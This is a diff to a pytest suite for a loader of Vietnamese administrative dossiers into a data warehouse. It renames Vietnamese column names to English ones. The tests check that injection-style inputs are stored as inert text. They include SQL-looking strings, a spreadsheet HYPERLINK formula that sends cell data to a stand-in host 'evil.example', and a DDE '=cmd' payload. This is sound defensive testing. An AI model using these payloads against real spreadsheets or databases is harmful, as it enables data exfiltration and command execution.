@@ -283,7 +283,7 @@ def test_valid_files_load_exactly_as_they_do_alone(corpus):
             dossiers.rows_inserted, dossiers.rows_updated) == ("loaded", 13, 10, 3, 10, 0)
     assert dossiers.inferred == {"unit": 1, "procedure": 1, "dossiers_with_inferred_unit": 1,
                                  "dossiers_with_inferred_procedure": 1}
-    assert query(url, "SELECT count(*) FROM dw.fact_dossier WHERE ma_ho_so LIKE '000.35.27.H56-240108-%%'") == [(10,)]
+    assert query(url, "SELECT count(*) FROM dw.fact_dossier WHERE dossier_code LIKE '000.35.27.H56-240108-%%'") == [(10,)]
     assert query(url, "SELECT q.row_no, q.rule FROM audit.quarantine q WHERE q.load_id = %s ORDER BY 1",
                  (dossiers.load_id,)) == [(1, "ma_ho_so_trung_trong_tep"), (9, "ngay_tiep_nhan_bat_buoc"),
                                           (10, "ngay_hen_tra_dinh_dang")]
@@ -332,12 +332,12 @@ def test_stored_paths_are_inside_the_landing_zone_under_its_own_names(corpus):
 def test_sql_looking_text_is_stored_literally_and_tables_survive(corpus):
     url, _, _, _ = corpus
     code = corpus_maker.code(14, 4)
-    assert query(url, "SELECT u.unit_code, p.ma_tthc, a.chu_ho_so, a.so_dien_thoai, a.email, a.so_giay_to "
+    assert query(url, "SELECT u.unit_code, p.procedure_code, a.applicant_name, a.phone, a.email, a.id_number "
                       "FROM dw.fact_dossier f JOIN dw.dim_unit u USING (unit_key) "
-                      "JOIN dw.dim_procedure p USING (procedure_key) JOIN restricted.applicant a USING (ma_ho_so) "
-                      "WHERE f.ma_ho_so = %s", (code,)) == [(corpus_maker.UNIT, corpus_maker.PROCEDURE) + (SQL,) * 4]
-    assert query(url, "SELECT extra FROM raw.dossier_extra WHERE ma_ho_so = %s", (code,)) == [({"GhiChu": SQL},)]
-    assert query(url, "SELECT count(*) FROM dw.fact_dossier WHERE ma_ho_so LIKE %s", (code[:-4] + "%",)) == [(4,)]
+                      "JOIN dw.dim_procedure p USING (procedure_key) JOIN restricted.applicant a USING (dossier_code) "
+                      "WHERE f.dossier_code = %s", (code,)) == [(corpus_maker.UNIT, corpus_maker.PROCEDURE) + (SQL,) * 4]
+    assert query(url, "SELECT extra FROM raw.dossier_extra WHERE dossier_code = %s", (code,)) == [({"GhiChu": SQL},)]
+    assert query(url, "SELECT count(*) FROM dw.fact_dossier WHERE dossier_code LIKE %s", (code[:-4] + "%",)) == [(4,)]
     # SQL as the codes (json-sql-moi-truong.json row 5, csv-don-vi-sql-cong-thuc.csv row 4): not a code, quarantined
     # with the characters named, and kept literally in the quarantine
     characters = ("ký tự U+0027 APOSTROPHE ở vị trí 1; ký tự U+003B SEMICOLON ở vị trí 2; "
@@ -347,8 +347,8 @@ def test_sql_looking_text_is_stored_literally_and_tables_survive(corpus):
                       "WHERE f.original_name = 'json-sql-moi-truong.json' ORDER BY q.rule") == [
         (5, SQL, rule, characters, SQL)
         for rule in ("ma_don_vi_ky_tu", "ma_ho_so_ky_tu", "ma_linh_vuc_ky_tu", "ma_tthc_ky_tu")]
-    for table, column in (("dw.fact_dossier", "ma_ho_so"), ("dw.dim_unit", "unit_code"),
-                          ("dw.dim_procedure", "ma_tthc")):
+    for table, column in (("dw.fact_dossier", "dossier_code"), ("dw.dim_unit", "unit_code"),
+                          ("dw.dim_procedure", "procedure_code")):
         assert query(url, f"SELECT count(*) FROM {table} WHERE {column} = %s", (SQL,)) == [(0,)]
     assert query(url, "SELECT unit_code, is_inferred FROM dw.dim_unit WHERE name = %s", (SQL,)) == [
         ("000.92.27.H56", False)]  # csv-don-vi-sql-cong-thuc.csv: SQL as a name is a name
@@ -363,13 +363,13 @@ def test_formulas_are_stored_as_inert_text_never_evaluated(corpus):
     formulas = ['=HYPERLINK("http://evil.example/?q="&A1,"Bấm vào đây")', "=1+1", "=cmd|' /C calc'!A0",
                 "+SUM(1;2)", "@SUM(A1)", "-2+3"]
     csv_codes = [corpus_maker.code(28, n) for n in range(1, 7)]
-    assert query(url, "SELECT a.chu_ho_so, u.name FROM restricted.applicant a JOIN dw.fact_dossier f USING (ma_ho_so) "
-                      "JOIN dw.dim_unit u USING (unit_key) WHERE a.ma_ho_so = ANY(%s) ORDER BY a.ma_ho_so",
+    assert query(url, "SELECT a.applicant_name, u.name FROM restricted.applicant a JOIN dw.fact_dossier f USING (dossier_code) "
+                      "JOIN dw.dim_unit u USING (unit_key) WHERE a.dossier_code = ANY(%s) ORDER BY a.dossier_code",
                  (csv_codes,)) == [(f, f) for f in formulas]
     # .xlsx: real formula cells are read as their cached value (none: openpyxl wrote no result) -> empty,
     # text cells that start with "=" keep their text
     xlsx_codes = [corpus_maker.code(42, n) for n in range(1, 7)]
-    assert query(url, "SELECT chu_ho_so FROM restricted.applicant WHERE ma_ho_so = ANY(%s) ORDER BY ma_ho_so",
+    assert query(url, "SELECT applicant_name FROM restricted.applicant WHERE dossier_code = ANY(%s) ORDER BY dossier_code",
                  (xlsx_codes,)) == [(None,)] * 3 + [(f,) for f in formulas[:3]]
     assert query(url, "SELECT name FROM dw.dim_unit WHERE unit_code = '000.91.27.H56'") == [
         ('=HYPERLINK("http://evil.example","Xã")',)]
@@ -378,20 +378,20 @@ def test_formulas_are_stored_as_inert_text_never_evaluated(corpus):
 def test_carriage_returns_are_kept_as_sent(corpus):
     url, _, _, _ = corpus
     code = corpus_maker.code
-    assert query(url, "SELECT ma_ho_so, chu_ho_so FROM restricted.applicant WHERE ma_ho_so = ANY(%s) ORDER BY 1",
+    assert query(url, "SELECT dossier_code, applicant_name FROM restricted.applicant WHERE dossier_code = ANY(%s) ORDER BY 1",
                  ([code(64, 4), code(65, 4), code(66, 4)],)) == [
         (code(64, 4), "Nguyễn\rVăn A"), (code(65, 4), "Nguyễn\rVăn A"), (code(66, 4), "Nguyễn\rVăn A")]
-    assert query(url, "SELECT email FROM restricted.applicant WHERE ma_ho_so = %s", (code(65, 4),)) == [
+    assert query(url, "SELECT email FROM restricted.applicant WHERE dossier_code = %s", (code(65, 4),)) == [
         ("a\r\nb@example.vn",)]
-    assert query(url, "SELECT extra FROM raw.dossier_extra WHERE ma_ho_so = %s", (code(64, 5),)) == [
+    assert query(url, "SELECT extra FROM raw.dossier_extra WHERE dossier_code = %s", (code(64, 5),)) == [
         ({"GhiChu": "ghi\rchú"},)]
 
 
 def test_look_alike_codes_make_no_second_dossier_unit_or_procedure(corpus):
     url, _, _, _ = corpus
-    for table, column in (("dw.fact_dossier", "ma_ho_so"), ("dw.dim_unit", "unit_code"),
-                          ("dw.dim_procedure", "ma_tthc"), ("dw.dim_field", "ma_linh_vuc"),
-                          ("dw.fact_petition", "ma_pakn")):
+    for table, column in (("dw.fact_dossier", "dossier_code"), ("dw.dim_unit", "unit_code"),
+                          ("dw.dim_procedure", "procedure_code"), ("dw.dim_field", "field_code"),
+                          ("dw.fact_petition", "petition_code")):
         assert query(url, f"SELECT count(*) FROM {table} WHERE {column} !~ '^[A-Za-z0-9.-]+$'") == [(0,)], table
     assert query(url, "SELECT q.row_no, q.rule, q.column_name, q.value FROM audit.quarantine q "
                       "JOIN audit.file_load l USING (load_id) JOIN audit.landed_file f ON f.file_id = l.file_id "
@@ -406,7 +406,7 @@ def test_look_alike_codes_make_no_second_dossier_unit_or_procedure(corpus):
 def test_events_after_the_load_date_are_quarantined_within_a_day_of_tolerance(corpus):
     url, _, _, _ = corpus
     codes = [corpus_maker.code(70, n) for n in range(1, 11)]
-    assert [r[0] for r in query(url, "SELECT ma_ho_so FROM dw.fact_dossier WHERE ma_ho_so = ANY(%s) ORDER BY 1",
+    assert [r[0] for r in query(url, "SELECT dossier_code FROM dw.fact_dossier WHERE dossier_code = ANY(%s) ORDER BY 1",
                                 (codes,))] == codes[:5] + codes[7:8]  # 02/04/2024: the day after, accepted
     assert query(url, "SELECT max(source_event_at) < '2024-04-03' FROM dw.fact_dossier") == [(True,)]
 
@@ -417,16 +417,16 @@ def test_a_dossier_in_two_files_is_updated_by_the_later_one(corpus):
     assert (old.rows_inserted, old.rows_updated, new.rows_inserted, new.rows_updated) == (2, 0, 1, 1)
     code = corpus_maker.code(13, 1)
     assert query(url, "SELECT f.status_code, f.last_load_id = %s, f.first_load_id = %s FROM dw.fact_dossier f "
-                      "WHERE ma_ho_so = %s", (new.load_id, old.load_id, code)) == [(10, True, True)]
+                      "WHERE dossier_code = %s", (new.load_id, old.load_id, code)) == [(10, True, True)]
     assert query(url, "SELECT h.status_code FROM dw.fact_dossier_status_history h JOIN dw.fact_dossier f "
-                      "USING (dossier_key) WHERE f.ma_ho_so = %s ORDER BY h.observed_at", (code,)) == [(4,), (10,)]
+                      "USING (dossier_key) WHERE f.dossier_code = %s ORDER BY h.observed_at", (code,)) == [(4,), (10,)]
 
 
 def test_a_file_over_the_bad_row_share_leaves_nothing(corpus):
     url, _, _, _ = corpus
     codes = [corpus_maker.code(31, n) for n in range(1, 5)]
-    assert query(url, "SELECT count(*) FROM dw.fact_dossier WHERE ma_ho_so = ANY(%s)", (codes,)) == [(0,)]
-    assert query(url, "SELECT count(*) FROM restricted.applicant WHERE ma_ho_so = ANY(%s)", (codes,)) == [(0,)]
+    assert query(url, "SELECT count(*) FROM dw.fact_dossier WHERE dossier_code = ANY(%s)", (codes,)) == [(0,)]
+    assert query(url, "SELECT count(*) FROM restricted.applicant WHERE dossier_code = ANY(%s)", (codes,)) == [(0,)]
 
 
 def test_huge_values_stay_within_memory(corpus):
